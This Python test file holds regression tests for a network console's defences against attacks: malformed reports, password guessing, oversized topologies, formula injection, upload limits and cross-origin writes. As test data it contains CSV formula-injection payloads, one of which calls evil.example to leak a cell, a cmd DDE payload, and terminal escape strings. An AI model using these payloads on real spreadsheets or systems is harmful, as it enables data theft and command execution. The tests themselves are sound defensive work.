"""Regression tests for the console rows of issue 13's attack table (5, 10, 11, 12, 13).

Each test replays the attack as the issue describes it and asserts what the user cares
about: the console keeps working for everyone else and refuses the attacker clearly.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import statistics
import subprocess
import sys
import threading
import time
import warnings
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest

import shoal
from shoal.console.content import ContentDirectory, Upload
from shoal.console.state import (
    ADMIN_PASSWORD_VARIABLE,
    ConsoleConfig,
    ConsoleConfigError,
    open_console,
)
from shoal.core.signing import SigningKey
from shoal.licensing import issue_licence
from shoal.server.console_link import ConsoleLink, DownloadTotals, ReportedClient

from .conftest import (
    ADMIN_PASSWORD,
    CSV_TOPOLOGY,
    FakeClock,
    Harness,
    TestClient,
    make_harness,
)

CONTENT_ID = "ab" * 32


def activated(console: Harness) -> None:
    """Topology, licence and a registered, activated P2P server ``srv-1``."""
    assert console.set_topology(CSV_TOPOLOGY).status_code == 200
    assert console.save_licence(seats=10, expires=date(2027, 1, 1)).status_code == 200
    registered = console.client.post(
        "/api/v1/link/register",
        json={"server_id": "srv-1", "name": "central", "address": "10.0.0.5"},
        headers=console.link_headers(),
    )
    assert registered.json()["activated"] is True


def client_record(device_id: str, address: str, bytes_done: int, **fields: object) -> dict:
    return {
        "device_id": device_id,
        "hostname": f"pc-{device_id}",
        "address": address,
        "subnet": address.rsplit(".", 1)[0] + ".0/24",
        "version": "0.1.0",
        "content": [{"content_id": CONTENT_ID, "bytes_done": bytes_done, "complete": False}],
        **fields,
    }


def link_through(console: Harness) -> ConsoleLink:
    """The P2P server's real ``ConsoleLink``, its HTTP calls served in-process."""
    link = ConsoleLink(
        "https://testserver", console.state.server_key, "srv-1", name="central", address="10.0.0.5"
    )
    link._http.close()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        link._http = TestClient(
            console.client.app,
            base_url="https://testserver/api/v1/link",
            headers=console.link_headers(),
        )
    return link


# --- row 5: one bad record in a P2P server's report ------------------------------------


def test_attack_5_a_bad_client_record_is_refused_alone_and_named(
    console: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    activated(console)
    first = console.client.post(
        "/api/v1/link/clients",
        json={"clients": [client_record("good", "10.1.0.10", 100)]},
        headers=console.link_headers(),
    )
    assert first.status_code == 200, first.text
    console.clock.advance(hours=1)
    report = {
        "clients": [
            client_record("good", "10.1.0.10", 700),
            client_record("evil", "10.1.0.11", 5, hostname="pc\x07\x1b[2J"),
            client_record("huge", "10.1.0.12", 2**62 + 1),
            client_record("negative", "10.1.0.13", -1),
            "not a record",
            client_record("late", "10.1.1.14", 300),
        ]
    }
    for _ in range(2):  # a server re-sends its registry at every report
        answer = console.client.post(
            "/api/v1/link/clients", json=report, headers=console.link_headers()
        )
        assert answer.status_code == 200, answer.text
    body = answer.json()
    assert [placed["device_id"] for placed in body["clients"]] == ["good", "late"]
    refused = {record["index"]: record for record in body["refused"]}
    assert sorted(refused) == [1, 2, 3, 4]
    assert refused[1]["id"] == "evil"
    assert refused[1]["problems"][0]["field"] == "hostname"
    assert "control character" in refused[1]["problems"][0]["message"]
    assert refused[2]["id"] == "huge"
    assert refused[2]["problems"][0]["field"] == "content.0.bytes_done"
    assert "less than or equal to 4611686018427387904" in refused[2]["problems"][0]["message"]
    assert refused[3]["problems"][0]["field"] == "content.0.bytes_done"
    assert refused[4]["id"] is None and refused[4]["problems"]

    # Every good device moved on: last seen, progress and seats.
    good = console.get("/api/v1/devices/good").json()
    assert good["last_seen"].startswith("2026-06-01T13:00")
    assert good["cached_content"][0]["bytes_done"] == 700
    assert console.get("/api/v1/devices/late").json()["office"] == "Paris WiFi"
    assert console.get("/api/v1/devices/evil").status_code == 404
    assert console.get("/api/v1/license").json()["seats_used"] == 2
    warned = [r for r in caplog.records if "refused a client record" in r.getMessage()]
    assert len(warned) == 4, "each refused record is logged once, not at every report"

    # The download statistics are applied entry by entry too.
    entry = {"content_id": CONTENT_ID, "office": "Paris", "bytes_from_peers": 9}
    stats = console.client.post(
        "/api/v1/link/stats",
        json={
            "entries": [
                {**entry, "bytes_from_server": 1},
                {**entry, "office": "Lyon", "bytes_from_server": -5},
                {**entry, "office": "Nice", "bytes_from_server": 2**63},
            ]
        },
        headers=console.link_headers(),
    )
    assert stats.status_code == 200, stats.text
    assert stats.json()["applied"] == 1
    assert [(r["index"], r["problems"][0]["field"]) for r in stats.json()["refused"]] == [
        (1, "bytes_from_server"),
        (2, "bytes_from_server"),
    ]
    downloads = console.get("/api/v1/reports/downloads").json()["items"]
    assert [(row["office"], row["bytes_from_peers"]) for row in downloads] == [("Paris", 9)]


def test_attack_5_the_p2p_server_logs_refused_records_once_and_carries_on(
    console: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    activated(console)
    link = link_through(console)
    clients = [
        ReportedClient("a1", "pc-a1", "10.1.0.20", "10.1.0.0/24", "0.1.0"),
        ReportedClient("b2", "pc\x00b2", "10.1.0.21", "10.1.0.0/24", "0.1.0"),
    ]
    totals = [DownloadTotals(CONTENT_ID, "Paris", 2**62 + 1, 0)]
    with caplog.at_level(logging.WARNING, logger="shoal.server"):
        for _ in range(3):
            answer = link.report_clients(clients)
            link.report_stats(totals)
    assert [placed["device_id"] for placed in answer["clients"]] == ["a1"]
    server_warnings = [r.getMessage() for r in caplog.records if r.name == "shoal.server"]
    assert len(server_warnings) == 2, server_warnings
    assert "b2" in server_warnings[0] and "hostname" in server_warnings[0]
    assert "bytes_from_peers" in server_warnings[1]
    link.close()


# --- row 12: a development vendor key shipped in the package ---------------------------


def test_attack_12_no_development_vendor_key_is_shipped_or_trusted(
    console: Harness, tmp_path: Path
) -> None:
    package = Path(shoal.__file__).parent
    private_keys = [
        path.relative_to(package)
        for path in package.rglob("*")
        if path.is_file() and b"PRIVATE KEY-----" in path.read_bytes()
    ]
    assert private_keys == [], "a private key ships in the package"

    # A console told of no vendor key refuses to start, says what to give, creates nothing.
    with pytest.raises(ConsoleConfigError, match="--vendor-public-key"):
        open_console(ConsoleConfig(data_dir=tmp_path / "bare"))
    assert not (tmp_path / "bare").exists()
    environment = {
        name: value for name, value in os.environ.items() if name != "SHOAL_VENDOR_PUBLIC_KEY"
    }
    started = subprocess.run(
        [sys.executable, "-m", "shoal", "console", "--data-dir", str(tmp_path / "cli")],
        capture_output=True,
        text=True,
        env=environment,
        timeout=60,
    )
    assert started.returncode != 0
    assert "no vendor public key" in started.stderr and "Traceback" not in started.stderr

    # A million seats signed by any key but the configured vendor's is refused.
    forged = issue_licence(
        SigningKey.generate(), "Mallory", 1_000_000, date(2099, 1, 1), date(2026, 1, 1)
    )
    answer = console.put("/api/v1/license", json={"key": forged})
    assert answer.status_code == 422 and "trusts vendor key" in answer.json()["detail"]
    licence = console.get("/api/v1/license").json()
    assert licence["state"] == "none" and licence["seats"] == 0

    # The console refuses to be handed the vendor's private key instead of the public one.
    private = tmp_path / "vendor.key"
    SigningKey.generate().save(private)
    with pytest.raises(ConsoleConfigError, match="private key"):
        open_console(ConsoleConfig(data_dir=tmp_path / "given", vendor_public_key=private))


# --- row 10: password guessing and user name enumeration -------------------------------


def from_address(console: Harness, address: str) -> TestClient:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return TestClient(
            console.client.app, base_url="https://testserver", client=(address, 40000)
        )


def login(client: TestClient, username: str, password: str) -> Any:
    return client.post("/api/v1/auth/login", json={"username": username, "password": password})


def test_attack_10_password_guessing_is_throttled_with_backoff(console: Harness) -> None:
    attacker = from_address(console, "192.0.2.66")
    answers = [login(attacker, "admin", f"guess {number}") for number in range(100)]
    codes = [answer.status_code for answer in answers]
    assert codes[:5] == [401] * 5 and set(codes[5:]) == {429}, codes
    first_wait = int(answers[5].headers["retry-after"])
    assert first_wait >= 1
    assert f"try again in {first_wait} second" in answers[5].json()["detail"]
    # Blocked attempts check no password: even the right one waits.
    assert login(attacker, "admin", ADMIN_PASSWORD).status_code == 429
    # Each further failure doubles the wait.
    console.clock.advance(seconds=first_wait)
    assert login(attacker, "admin", "guess 101").status_code == 401
    second_wait = int(login(attacker, "admin", "guess 102").headers["retry-after"])
    assert second_wait == 2 * first_wait
    # The user name is throttled from every address, and the address for every user name.
    elsewhere = from_address(console, "198.51.100.7")
    assert login(elsewhere, "admin", ADMIN_PASSWORD).status_code == 429
    assert login(attacker, "someone-else", "guess").status_code == 429
    # Once the wait is over, the right password works and clears the user name's count.
    console.clock.advance(seconds=second_wait)
    assert login(elsewhere, "admin", ADMIN_PASSWORD).status_code == 200
    assert login(elsewhere, "admin", "typo").status_code == 401


@pytest.mark.serial  # compares the time of two logins
def test_attack_10_unknown_user_names_cost_a_password_check_too(
    console: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    from argon2 import PasswordHasher

    verified: list[str] = []
    real_verify = PasswordHasher.verify

    def counting_verify(self: PasswordHasher, hash: str, password: str) -> bool:
        verified.append(password)
        return real_verify(self, hash, password)

    monkeypatch.setattr(PasswordHasher, "verify", counting_verify)
    timings: dict[str, list[float]] = {"admin": [], "nobody-by-this-name": []}
    for round_number in range(5):
        for username, spent in timings.items():
            console.clock.advance(hours=2)  # every count forgotten: no 429 here
            client = from_address(console, f"203.0.113.{round_number}")
            started = time.perf_counter()
            answer = login(client, username, "wrong password")
            spent.append(time.perf_counter() - started)
            assert answer.status_code == 401
            assert answer.json()["detail"] == "wrong username or password"
    # The unknown user name went through a (dummy) argon2 check, like the known one...
    assert verified.count("wrong password") == 10
    # ...so its answer takes about as long (before: 7 ms against 132 ms). The fastest of
    # each, measured interleaved in this run: a loaded machine only adds time, so the
    # minimum is what the work itself costs.
    known, unknown = (min(timings[name]) for name in timings)
    assert unknown > 0.5 * known, (known, unknown)


# --- row 11: a topology of 100k rows, or a 2,000-deep parent chain ---------------------

TOPOLOGY_HEADER = "office,parent,type,subnets\nCentral Office,,Default,10.0.0.0/24\n"


def wide_topology(offices: int) -> str:
    rows = (
        f"Office {number},Central Office,Default,"
        f"{11 + (number >> 16)}.{(number >> 8) & 255}.{number & 255}.0/24"
        for number in range(offices)
    )
    return TOPOLOGY_HEADER + "\n".join(rows) + "\n"


def deep_topology(levels: int) -> str:
    rows = ["Level 1,Central Office,Default,"]
    rows += [f"Level {level},Level {level - 1},Default," for level in range(2, levels + 1)]
    return TOPOLOGY_HEADER + "\n".join(rows) + "\n"


@pytest.mark.serial  # compares refusal and answer times
def test_attack_11_huge_and_deep_topologies_are_refused_quickly_while_health_answers(
    console: Harness,
) -> None:
    """Each attack is refused at its limit, not after working through all of it: the
    100,000 offices cost less than accepting the largest topology allowed (10,000
    offices), the 2,000 levels about what refusing 40 levels costs, both measured in the
    same run (before the fix: 15.8 s / 18.3 s, validating every row). The health check keeps
    answering meanwhile, about as fast as before the attacks (the parse is off the event
    loop). Times are compared with baselines taken in this run, so a loaded machine
    slows both sides alike."""
    started = time.perf_counter()
    assert console.set_topology(wide_topology(9_999)).status_code == 200
    largest_accepted = time.perf_counter() - started
    assert console.set_topology(CSV_TOPOLOGY).status_code == 200
    attacks = [
        # (attack, what the refusal says, the baseline: the largest allowed accepted)
        (
            wide_topology(100_000),
            "more than 10000 offices: a topology holds at most 10000",
            None,
        ),
        # (the baseline: refusing a chain just over the limit)
        (
            deep_topology(2_000),
            "levels below the root: a topology holds at most 32 levels",
            deep_topology(40),
        ),
    ]
    health_times: list[float] = []
    stop = threading.Event()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        # In a `with` block, every request of this client runs on one event loop, as
        # under uvicorn: a parse on the loop would hold the health checks back.
        with TestClient(console.client.app, base_url="https://testserver") as client:

            def refuse(text: str, limit: str) -> float:
                started = time.perf_counter()
                answer = client.put(
                    "/api/v1/topology",
                    content=text,
                    headers={**console.headers, "content-type": "text/csv"},
                )
                elapsed = time.perf_counter() - started
                assert answer.status_code == 422, answer.text[:300]
                assert limit in answer.json()["detail"]
                return elapsed

            def poll_health() -> None:
                while not stop.is_set():
                    started = time.perf_counter()
                    assert client.get("/api/v1/health").status_code == 200
                    health_times.append(time.perf_counter() - started)
                    time.sleep(0.01)

            def offices_view() -> float:
                started = time.perf_counter()
                assert len(console.get("/api/v1/offices").json()["items"]) == 4
                return time.perf_counter() - started

            offices_before = offices_view()
            poller = threading.Thread(target=poll_health)
            poller.start()
            try:
                while len(health_times) < 10:
                    time.sleep(0.01)
                health_before = statistics.median(health_times)
                calm = len(health_times)
                for attack, limit, over_the_limit in attacks:
                    if over_the_limit is None:
                        bound = largest_accepted
                    else:
                        baseline = min(refuse(over_the_limit, limit) for _ in range(2))
                        bound = max(4 * baseline, baseline + 1.0)
                    answered_before = len(health_times)
                    elapsed = refuse(attack, limit)
                    assert elapsed < bound, f"refused after {elapsed:.2f} s (bound {bound:.2f} s)"
                    time.sleep(0.2)
                    assert len(health_times) > answered_before
            finally:
                stop.set()
                poller.join()
    during = health_times[calm:]
    assert max(during) < max(1.0, 20 * health_before), (
        f"/health waited {max(during):.2f} s (before the attacks: {health_before:.3f} s)"
    )
    # Nothing changed, and the office views answer as fast as before.
    assert console.get("/api/v1/topology", params={"format": "csv"}).text == CSV_TOPOLOGY
    assert offices_view() < max(2.0, 5 * offices_before)


def test_attack_11_topology_csv_export_neutralises_formula_cells(console: Harness) -> None:
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "'quoted"]
    offices = [{"office": "Central Office", "parent": None, "subnets": ["10.0.0.0/24"]}]
    offices += [
        {"office": name, "parent": "Central Office", "subnets": [f"10.{number + 1}.0.0/24"]}
        for number, name in enumerate(names)
    ]
    offices.append({"office": "Below", "parent": "=cmd|' /C calc'!A0", "subnets": []})
    offices.append({"office": "=cmd|' /C calc'!A0", "parent": "Central Office", "subnets": []})
    assert console.put("/api/v1/topology", json={"offices": offices}).status_code == 200
    exported = console.get("/api/v1/topology", params={"format": "csv"}).text
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row[:2]]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in exported and "'@SUM(A1)" in exported and "''quoted" in exported
    # The export uploads back unchanged: the apostrophes come off again.
    before = console.get("/api/v1/topology").json()
    assert console.set_topology(exported).status_code == 200
    assert console.get("/api/v1/topology").json() == before
    assert console.get("/api/v1/topology", params={"format": "csv"}).text == exported


# --- row 13: uploads (size, full disk), cross-origin writes, HSTS ----------------------


@pytest.fixture
def small_console(
    tmp_path: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Harness]:
    """A console (SQLite) that accepts uploads of 4 KiB at most."""
    monkeypatch.setenv(ADMIN_PASSWORD_VARIABLE, ADMIN_PASSWORD)
    harness = make_harness(
        tmp_path / "console",
        None,
        clock,
        max_upload_bytes=4096,
        trusted_origins=("https://console.example.com",),
    )
    yield harness
    harness.client.close()
    harness.state.close()


def leftover_uploads(console: Harness) -> list[Path]:
    return list(console.state.content.temporary.iterdir())


def test_attack_13_uploads_have_a_size_cap(small_console: Harness) -> None:
    answer = small_console.upload("Big", "1.0", os.urandom(4097))
    assert answer.status_code == 413
    assert "larger than this console accepts (4096 bytes" in answer.json()["detail"]
    assert "--max-upload" in answer.json()["detail"]

    def streamed() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        for _ in range(10):
            yield os.urandom(1024)

    answer = small_console.client.post(
        "/api/v1/applications",
        params={"name": "Big", "version": "1.1"},
        content=streamed(),
        headers={**small_console.headers, "content-type": "application/octet-stream"},
    )
    assert answer.status_code == 413, answer.text
    assert leftover_uploads(small_console) == []
    assert small_console.upload("Small", "1.0", os.urandom(4096)).status_code == 201
    assert [app["name"] for app in small_console.get("/api/v1/applications").json()["items"]] == [
        "Small"
    ]


class FullDiskUpload(Upload):
    """An upload whose file is /dev/full: every write fails with the kernel's ENOSPC."""

    def __init__(self, directory: ContentDirectory) -> None:
        super().__init__(directory)
        self._file.close()
        self._file = open("/dev/full", "wb", buffering=0)  # noqa: SIM115 - closed by discard


def test_attack_13_a_full_disk_is_a_507_that_says_so_and_cleans_up(
    console: Harness, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(ContentDirectory, "begin_upload", lambda self: FullDiskUpload(self))
    answer = console.upload("Payroll", "1.0", os.urandom(3 << 20))
    assert answer.status_code == 507, answer.text
    detail = answer.json()["detail"]
    assert "disk is full" in detail and "removed" in detail and "free some space" in detail
    assert leftover_uploads(console) == []
    assert console.get("/api/v1/applications").json()["items"] == []
    assert not [record for record in caplog.records if record.exc_info], "no traceback logged"
    # Announced larger than the free space: refused before a byte is written.
    monkeypatch.undo()
    monkeypatch.setattr(ContentDirectory, "free_bytes", lambda self: 1000)
    answer = console.upload("Payroll", "1.0", os.urandom(2000))
    assert answer.status_code == 507 and "1000 bytes are free" in answer.json()["detail"]
    assert leftover_uploads(console) == []


def test_attack_13_cookie_writes_from_another_origin_are_refused(small_console: Harness) -> None:
    console = small_console
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        browser = TestClient(console.client.app, base_url="https://testserver")
    assert login(browser, "admin", ADMIN_PASSWORD).status_code == 200
    csv_text = "office,parent,type,subnets\nCentral Office,,Default,10.66.0.0/24\n"
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://testserver"},  # the console is HTTPS: not its own origin
        {"Referer": "https://evil.example/page.html"},
        {},  # neither header: not known to come from the console's pages
    ):
        answer = browser.put(
            "/api/v1/topology", content=csv_text, headers={"content-type": "text/csv", **headers}
        )
        assert answer.status_code == 403, (headers, answer.text)
        assert "cross-origin request refused" in answer.json()["detail"]
        tokens = browser.post("/api/v1/tokens", json={"name": "stolen"}, headers=headers)
        assert tokens.status_code == 403
    assert "10.66.0.0/24" not in console.get("/api/v1/topology", params={"format": "csv"}).text
    assert [token["name"] for token in console.get("/api/v1/tokens").json()["items"]] == ["tests"]
    # Reads need no Origin; writes from the console's own pages (or a trusted origin) work.
    assert browser.get("/api/v1/auth/me", headers={"Origin": "https://evil.example"}).is_success
    for own in (
        {"Origin": "https://testserver"},
        {"Referer": "https://testserver/"},
        {"Origin": "https://console.example.com"},
    ):
        answer = browser.post("/api/v1/tokens", json={"name": "mine"}, headers=own)
        assert answer.status_code == 201, (own, answer.text)
    # Token-authenticated calls carry no cookie and are not concerned.
    scripted = console.client.post(
        "/api/v1/tokens",
        json={"name": "script"},
        headers={**console.headers, "Origin": "https://evil.example"},
    )
    assert scripted.status_code == 201


def test_attack_13_every_answer_carries_hsts(console: Harness) -> None:
    for answer in (
        console.client.get("/api/v1/health"),
        console.client.get("/"),
        console.client.get("/api/v1/applications"),  # a 401
        console.get("/api/v1/devices/nobody"),  # a 404
    ):
        assert answer.headers["strict-transport-security"] == "max-age=31536000"
